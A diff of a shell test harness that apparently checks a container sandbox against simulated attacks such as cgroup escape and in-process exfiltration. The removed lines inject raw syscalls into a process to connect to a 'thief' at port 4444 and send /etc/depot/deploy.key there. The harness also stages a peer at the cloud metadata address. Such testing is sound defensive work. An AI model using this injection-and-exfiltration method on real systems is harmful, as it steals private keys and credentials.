@@ -64,12 +64,7 @@ container_fields() {
 }
 
 peers() {
-	in_network ip addr add 169.254.169.254/32 dev peer0
-	world_start
-}
-
-world_start() {
-	peer_start world python3 -c "$(cat "$here/services/peer.py")" "$peer_address" 169.254.169.254
+	world_begin
 }
 
 # It has things once it is ready.
@@ -353,19 +348,7 @@ attack_escape_cgroup() {
 
 # By code in the process: a connection to the thief, and a secret sent there.
 attack_code_connect() {
-	local fd secret
-	harm connect "$peer_address:4444"
-	harm read '/etc/depot/deploy.key'
-	thief_begin
-	fd=$(inject_call go depot 41 2 1 0)
-	# AF_INET, port 4444, 10.88.0.1
-	inject_call go depot 42 "${fd#* }" words:0x0100580a5c110002,0 16
-	secret=$(inject_call go depot 257 -100 '"/etc/depot/deploy.key"' 0 0)
-	# sendfile
-	inject_call go depot 40 "${fd#* }" "${secret#* }" 0 4096
-	inject_call go depot 3 "${fd#* }"
-	inject_call go depot 3 "${secret#* }"
-	thief_got 'PRIVATE KEY'
+	inject_theft go depot /etc/depot/deploy.key 'PRIVATE KEY'
 }
 
 # By code in the process: memory that is written and executed.
